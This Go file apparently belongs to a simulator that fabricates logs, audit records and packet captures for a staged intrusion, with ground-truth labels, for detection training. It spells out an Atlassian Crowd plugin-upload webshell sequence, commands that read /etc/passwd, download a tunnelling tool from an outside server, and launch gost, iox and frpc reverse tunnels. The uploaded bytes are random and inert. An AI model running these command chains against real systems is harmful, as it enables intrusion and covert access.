package tgrsta1030

import (
	"crypto/md5"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/netip"
	"net/url"
	"strings"
	"time"

	"longwatch/internal/simulate/chance"
	"longwatch/internal/simulate/estate"
	"longwatch/internal/simulate/packet"
	"longwatch/internal/simulate/scenario/ordinary"
	"longwatch/internal/simulate/talk"
	"longwatch/internal/simulate/truth"
)

const browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"

// exploit is the upload of a handler through an old flaw and the framed
// conversation with it. The uploaded bytes are random behind a zip header.
func (x *play) exploit() {
	x.now = x.At(x.Act, 4, 30).Add(x.r.Duration(0, 2*time.Hour))
	x.web2 = "/crowd/plugins/servlet/" + x.r.Letters(chance.Lower, 5)
	boundary := "----" + x.r.Hex(8)
	plugin := append([]byte("PK\x03\x04\x14\x00\x08\x00\x08\x00"), x.r.Bytes(6400)...)
	from := x.vps[1]
	begin := x.now
	x.now = ordinary.Visit(x.Site, x.now, x.web, from, browser, []ordinary.Ask{
		{Path: "/crowd/", Status: 302},
		{Method: "POST", Path: "/crowd/admin/uploadplugin.action", Status: 400, Header: talk.Header{"Content-Type: multipart/mixed; boundary=" + boundary}, Body: talk.Multipart(boundary, "file_"+x.r.Letters(chance.Lower, 4), x.r.Letters(chance.Lower, 6)+".jar", "application/octet-stream", plugin), Pause: 3 * time.Second, Answer: []byte("Installed plugin")},
		{Path: x.web2, Status: 200, Pause: 9 * time.Second, Answer: []byte{}},
	})
	file := "disk/" + x.web.Name + "/var/www/html/" + x.r.Letters(chance.Lower, 5) + ".jsp"
	x.File(file, []byte(handler(x.r)), x.now)
	x.p.Way(begin, x.web.Name, "TG-06 TG-12", "handler stored through the plug-in upload of Atlassian Crowd", x.accessLog(), truth.Pcap, file)

	password, key := x.r.Letters(chance.Lower, 6), x.r.Hex(8)
	sum := md5.Sum([]byte(password + key))
	mark := strings.ToUpper(hex.EncodeToString(sum[:]))
	cookie := "Cookie: JSESSIONID=" + strings.ToUpper(x.r.Hex(16))
	x.frame = frame{from, password, mark, cookie}
	x.framed(x.r.Between(14, 22), true)
	x.p.Step(begin.Add(time.Minute), x.web.Name, "TG-10 OP-26", "framed conversation with the handler", truth.Pcap, x.accessLog())
}

// frame is what a conversation with the handler has in common.
type frame struct {
	from                   netip.Addr
	password, mark, cookie string
}

// framed are exchanges with the handler, the first of which may bring its code.
func (x *play) framed(n int, first bool) {
	f := x.frame
	for i := range n {
		size, answer := x.r.Between(8, 40)*16, []byte(f.mark[:16]+base64.StdEncoding.EncodeToString(x.r.Bytes(x.r.Between(4, 160)*16))+f.mark[16:])
		if i == 0 && first {
			size, answer = 2300*16, []byte{}
		}
		body := []byte(f.password + "=" + url.QueryEscape(base64.StdEncoding.EncodeToString(x.r.Bytes(size))))
		x.now = x.now.Add(x.r.Wait(14*time.Second) + time.Second)
		x.now = ordinary.Visit(x.Site, x.now, x.web, f.from, browser, []ordinary.Ask{{Method: "POST", Path: x.web2, Header: talk.Header{"Content-Type: application/x-www-form-urlencoded", f.cookie}, Body: body, Kind: "text/html", Answer: answer}})
	}
}

// back is a return: some exchanges with the handler.
func (x *play) back(at time.Time) {
	x.now = at
	x.framed(4, false)
	x.p.Step(at, x.web.Name, "TG-10 OP-26", "framed conversation with the handler again", truth.Pcap, x.accessLog())
}

// server is what happens on the Linux machine behind the handler.
func (x *play) server() {
	a := x.web.Audit()
	log := "logs/audit/" + x.web.Name + "/audit.log"
	svc := estate.Caller{UID: 998, AUID: 4294967295, Session: 4294967295, PPID: a.PID(), Command: "sh", Exe: "/usr/bin/dash"}
	run := func(argv ...string) {
		c := svc
		c.Command = argv[0][strings.LastIndexByte(argv[0], '/')+1:]
		c.Exe = argv[0]
		if !strings.HasPrefix(c.Exe, "/") {
			c.Exe = "/usr/bin/" + argv[0]
		}
		a.Exec(x.now, c, "/var/lib/tomcat9", argv...)
		x.now = x.now.Add(x.r.Wait(20*time.Second) + 2*time.Second)
	}
	for _, line := range []string{"id", "uname -a", "cat /etc/passwd", "ip addr"} {
		a.Exec(x.now, svc, "/var/lib/tomcat9", "sh", "-c", line)
		run(strings.Fields(line)...)
	}
	dir := chance.Pick(x.r, []string{"/tmp/.", "/dev/shm/.", "/var/tmp/."}) + x.r.Letters(chance.Lower, 5) + "/"
	run("curl", "-s", "-o", dir+"gost", fmt.Sprintf("http://%s:8000/g", x.vps[1]))
	k := x.Dial(x.now, x.web.Station, x.Internet(x.vps[1]), 8000)
	k.Send(packet.Client, talk.Request("GET", "/g", x.vps[1].String()+":8000", talk.Header{"User-Agent: curl/7.88.1", "Accept: */*"}, nil))
	k.Send(packet.Server, talk.Response(k.Now(), 200, talk.Header{"Server: SimpleHTTP/0.6 Python/3.11.2", "Content-type: application/octet-stream"}, x.r.Bytes(240_000)))
	k.Close(packet.Server)
	run("chmod", "+x", dir+"gost")
	begin := x.now
	run(dir+"gost", "-L", fmt.Sprintf("socks5://:%d", x.r.Between(1080, 1099)), "-F", fmt.Sprintf("relay+tls://%s:443", x.vps[1]))
	run(dir+"iox", "fwd", "-r", "127.0.0.1:22", "-r", fmt.Sprintf("*%s:%d", x.vps[2], x.r.Between(8000, 9000)), "-k", x.r.Hex(6))
	run(dir+"frpc", "-c", dir+"frpc.ini")
	x.p.Step(begin, x.web.Name, "TG-13", "tunnels started with gost, iox and frpc", log)
	x.tunnels(begin)

	begin = x.now
	root := estate.Caller{UID: 0, AUID: 4294967295, Session: 4294967295, PPID: a.PID(), Command: chance.Pick(x.r, []string{"kworkerd", "systemd-udev", "dbus-daemon"}), Exe: "/usr/lib/systemd/" + x.r.Letters(chance.Lower, 8)}
	a.Exec(x.now, root, "/", root.Exe)
	for range x.r.Between(3, 6) {
		a.LoadBPF(x.now.Add(x.r.Duration(0, 900*time.Millisecond)), root, x.r.Between(100, 400))
	}
	x.p.Step(x.now, x.web.Name, "TG-24", "BPF programs loaded by an unknown process", log)
	x.web.Syslog(x.now.Add(2*time.Second), "kern.log", "kernel", "[%d.%06d] %s[%d] is installing a program with bpf_probe_write_user helper that may corrupt user memory!", x.r.Between(90000, 900000), x.r.IntN(999999), root.Command, a.PID())
	x.now = x.now.Add(4 * time.Second)
	for _, pid := range []int{a.PID(), a.PID(), a.PID()} {
		c := root
		c.Command, c.Exe = "kill", "/usr/bin/kill"
		a.Exec(x.now, c, "/", "kill", "-900", fmt.Sprint(pid))
		a.Kill(x.now.Add(time.Millisecond), c, pid, 900, true)
		x.now = x.now.Add(x.r.Wait(6*time.Second) + time.Second)
	}
	c := root
	c.Command, c.Exe = "kill", "/usr/bin/kill"
	a.Kill(x.now, c, a.PID(), 901, true)
	c.Command, c.Exe = "mkdir", "/usr/bin/mkdir"
	a.Exec(x.now.Add(time.Second), c, "/", "mkdir", "-p", "/var/lib/swsecret_"+x.r.Letters(chance.Lower, 4))
	x.p.Step(begin, x.web.Name, "TG-21 TG-23", "signals 900 and 901 sent to processes", log)
}

// tunnels are the flows of the server: a relay, frp, and a beacon to a port
// of ordered digits.
func (x *play) tunnels(begin time.Time) {
	db := x.One(estate.LinuxServer)
	relay := x.Dial(begin.Add(time.Minute), x.web.Station, x.Internet(x.vps[1]), 443)
	t := talk.StartTLS(relay, x.r, talk.GoClient, "", talk.TLSServer{TLS13: true, Chain: x.Server("relay").Chain})
	inward := x.Dial(relay.Now().Add(20*time.Millisecond), x.web.Station, db.Station, 22)
	talk.StartSSH(inward, x.r, "SSH-2.0-libssh2_1.10.0", "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3")
	for range 60 {
		up, down := x.r.Size(200, 2000), x.r.Size(900, 9000)
		relay.Until(inward.Now())
		t.Send(packet.Server, up)
		inward.Until(relay.Now())
		inward.Send(packet.Client, x.r.Bytes(up))
		inward.Send(packet.Server, x.r.Bytes(down))
		relay.Until(inward.Now())
		t.Send(packet.Client, down)
		relay.Wait(x.r.Wait(50 * time.Second))
	}
	inward.Until(relay.Now())
	inward.Close(packet.Client)
	t.Close(packet.Client)
	x.p.Step(begin.Add(time.Minute), x.web.Name, "TG-15", "relay between a rented server and the database server", truth.Pcap)

	frp := x.Dial(begin.Add(3*time.Minute), x.web.Station, x.Internet(x.vps[2]), 7000)
	frp.Send(packet.Client, append([]byte{0x17}, talk.GoClient.ClientHello(x.r, "")...))
	frp.Wait(30 * time.Millisecond)
	f := talk.Resume(frp, x.r)
	f.Send(packet.Server, 1400)
	for range 40 {
		f.Exchange(x.r.Between(60, 100), x.r.Between(60, 90), 5*time.Millisecond)
		frp.Wait(x.r.Around(30*time.Second, 0.02))
	}
	frp.Close(packet.Client)
	x.p.Step(begin.Add(3*time.Minute), x.web.Name, "TG-14", "frp client connection", truth.Pcap)

	port := chance.Pick(x.r, []uint16{12345, 23456, 34567, 45678, 56789, 54321, 43210})
	at := begin.Add(6 * time.Minute)
	interval := x.r.Duration(40*time.Second, 80*time.Second)
	for range x.r.Between(60, 90) {
		k := x.Dial(at, x.web.Station, x.Internet(x.vps[0]), port)
		k.Send(packet.Client, x.r.Bytes(x.r.Between(150, 190)))
		k.Send(packet.Server, x.r.Bytes(x.r.Between(60, 90)))
		k.Close(packet.Client)
		at = at.Add(x.r.Around(interval, 0.06))
	}
	x.p.Step(begin.Add(6*time.Minute), x.web.Name, "TG-16", fmt.Sprintf("beacon to %s:%d", x.vps[0], port), truth.Pcap)
}
